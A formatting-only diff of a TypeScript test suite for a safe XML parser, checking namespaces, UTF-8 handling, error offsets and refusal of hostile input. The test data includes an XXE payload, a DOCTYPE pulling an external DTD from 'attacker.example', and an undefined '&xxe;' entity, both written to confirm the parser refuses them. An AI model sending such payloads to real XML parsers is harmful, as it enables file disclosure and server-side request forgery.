@@ -17,20 +17,33 @@ function refused(xml: string, code: string, check?: (error: DocumentFormatError)
 
 describe('safe XML parser', () => {
   it('reads elements, namespaces, attributes, text, CDATA, comments, PIs and references', () => {
-    const doc = parseXml('\uFEFF<?xml version="1.0" encoding="utf-8" standalone="yes"?>\n<?pi data?><!-- top -->\n'
-      + '<inv:HDon xmlns:inv="urn:inv" xmlns="urn:d" xml:lang="vi" a=\'x &lt;&gt;&amp;&apos;&quot; &#x1F600;&#233;\'>'
-      + 'Hà Nội<![CDATA[<b>&amp;</b>]]><Ten   k = "v"\n/><!-- c --><?p q?></inv:HDon>\n');
+    const doc = parseXml(
+      '\uFEFF<?xml version="1.0" encoding="utf-8" standalone="yes"?>\n<?pi data?><!-- top -->\n' +
+        '<inv:HDon xmlns:inv="urn:inv" xmlns="urn:d" xml:lang="vi" a=\'x &lt;&gt;&amp;&apos;&quot; &#x1F600;&#233;\'>' +
+        'Hà Nội<![CDATA[<b>&amp;</b>]]><Ten   k = "v"\n/><!-- c --><?p q?></inv:HDon>\n',
+    );
     const root = doc.root;
     assert.equal(root.localName, 'HDon');
     assert.equal(root.namespaceURI, 'urn:inv');
-    assert.deepEqual(root.attributes.map((a) => [a.qname, a.namespaceURI, a.value]),
-      [['xml:lang', 'http://www.w3.org/XML/1998/namespace', 'vi'], ['a', '', 'x <>&\'" 😀é']]);
+    assert.deepEqual(
+      root.attributes.map((a) => [a.qname, a.namespaceURI, a.value]),
+      [
+        ['xml:lang', 'http://www.w3.org/XML/1998/namespace', 'vi'],
+        ['a', '', 'x <>&\'" 😀é'],
+      ],
+    );
     assert.equal(textContent(root), 'Hà Nội<b>&amp;</b>');
     const ten = root.children[2] as XmlElement;
     assert.equal(ten.namespaceURI, 'urn:d');
     assert.equal(ten.selfClosing, true);
-    assert.deepEqual(doc.children.map((n) => n.type), ['pi', 'comment', 'element']);
-    assert.deepEqual(root.children.map((n) => n.type), ['text', 'text', 'element', 'comment', 'pi']);
+    assert.deepEqual(
+      doc.children.map((n) => n.type),
+      ['pi', 'comment', 'element'],
+    );
+    assert.deepEqual(
+      root.children.map((n) => n.type),
+      ['text', 'text', 'element', 'comment', 'pi'],
+    );
   });
 
   it('normalises line ends in text and white space in attribute values, but not character references', () => {
@@ -56,18 +69,24 @@ describe('safe XML parser', () => {
       '<!DOCTYPE r SYSTEM "http://attacker.example/evil.dtd"><r/>',
     ];
     for (const xml of payloads) {
-      assert.throws(() => parseXml(xml), refused(xml, 'XML_DOCTYPE_FORBIDDEN', (error) => {
-        assert.equal(error.offset, xml.indexOf('<!DOCTYPE'));
-        assert.match(error.message, /DOCTYPE/);
-      }));
+      assert.throws(
+        () => parseXml(xml),
+        refused(xml, 'XML_DOCTYPE_FORBIDDEN', (error) => {
+          assert.equal(error.offset, xml.indexOf('<!DOCTYPE'));
+          assert.match(error.message, /DOCTYPE/);
+        }),
+      );
     }
   });
 
   it('refuses an entity reference that is not predefined (no DTD means no entities)', () => {
-    assert.throws(() => parseXml('<foo>&xxe;</foo>'), refused('', 'XML_MALFORMED', (error) => {
-      assert.equal(error.offset, 5);
-      assert.match(error.message, /undefined entity &xxe;/);
-    }));
+    assert.throws(
+      () => parseXml('<foo>&xxe;</foo>'),
+      refused('', 'XML_MALFORMED', (error) => {
+        assert.equal(error.offset, 5);
+        assert.match(error.message, /undefined entity &xxe;/);
+      }),
+    );
   });
 
   it('refuses malformed XML with a typed error giving the byte offset, line and column', () => {
@@ -94,25 +113,35 @@ describe('safe XML parser', () => {
       ['<1a/>', /expected an element name/],
     ];
     for (const [xml, message] of cases) {
-      assert.throws(() => parseXml(xml), refused(xml, 'XML_MALFORMED', (error) => {
-        assert.match(error.message, message, `for ${JSON.stringify(xml)}`);
-        assert.match(error.message, /line \d+, column \d+/);
-        assert.match(error.messages.vi, /dòng \d+, cột \d+/);
-      }), `for ${JSON.stringify(xml)}`);
+      assert.throws(
+        () => parseXml(xml),
+        refused(xml, 'XML_MALFORMED', (error) => {
+          assert.match(error.message, message, `for ${JSON.stringify(xml)}`);
+          assert.match(error.message, /line \d+, column \d+/);
+          assert.match(error.messages.vi, /dòng \d+, cột \d+/);
+        }),
+        `for ${JSON.stringify(xml)}`,
+      );
     }
   });
 
   it('reports where on which line the problem is, counting bytes for the offset', () => {
     const xml = '<r>\n  <tên>Hà Nội</tên>\n  <b>x</c>\n</r>';
-    assert.throws(() => parseXml(xml), refused(xml, 'XML_MALFORMED', (error) => {
-      assert.match(error.message, /line 3, column 7/);
-      assert.equal(error.offset, new TextEncoder().encode(xml.slice(0, xml.indexOf('</c>'))).length);
-    }));
+    assert.throws(
+      () => parseXml(xml),
+      refused(xml, 'XML_MALFORMED', (error) => {
+        assert.match(error.message, /line 3, column 7/);
+        assert.equal(error.offset, new TextEncoder().encode(xml.slice(0, xml.indexOf('</c>'))).length);
+      }),
+    );
   });
 
   it('refuses deep nesting instead of overflowing the stack', () => {
     const xml = '<a>'.repeat(5000) + '</a>'.repeat(5000);
-    assert.throws(() => parseXml(xml), refused(xml, 'XML_MALFORMED', (error) => assert.match(error.message, /nested deeper/)));
+    assert.throws(
+      () => parseXml(xml),
+      refused(xml, 'XML_MALFORMED', (error) => assert.match(error.message, /nested deeper/)),
+    );
   });
 
   it('stays linear on hostile input: 50 000 attributes on one element', () => {
@@ -123,10 +152,20 @@ describe('safe XML parser', () => {
   });
 
   it('accepts UTF-8 only: other declared encodings, UTF-16 and invalid bytes are refused', () => {
-    assert.throws(() => parseXml('<?xml version="1.0" encoding="windows-1258"?><r/>'), refused('', 'XML_ENCODING_UNSUPPORTED'));
+    assert.throws(
+      () => parseXml('<?xml version="1.0" encoding="windows-1258"?><r/>'),
+      refused('', 'XML_ENCODING_UNSUPPORTED'),
+    );
     assert.throws(() => decodeXmlBytes(Uint8Array.of(0xff, 0xfe, 0x3c, 0x00)), refused('', 'XML_ENCODING_UNSUPPORTED'));
-    assert.throws(() => decodeXmlBytes(Uint8Array.of(0x3c, 0x72, 0xc3, 0x28, 0x2f, 0x3e)), refused('', 'XML_ENCODING_UNSUPPORTED'));
+    assert.throws(
+      () => decodeXmlBytes(Uint8Array.of(0x3c, 0x72, 0xc3, 0x28, 0x2f, 0x3e)),
+      refused('', 'XML_ENCODING_UNSUPPORTED'),
+    );
     const bom = Uint8Array.of(0xef, 0xbb, 0xbf, ...new TextEncoder().encode('<r>ệ</r>'));
-    assert.equal(new TextEncoder().encode(decodeXmlBytes(bom)).length, bom.length, 'the BOM survives so offsets map to bytes');
+    assert.equal(
+      new TextEncoder().encode(decodeXmlBytes(bom)).length,
+      bom.length,
+      'the BOM survives so offsets map to bytes',
+    );
   });
 });
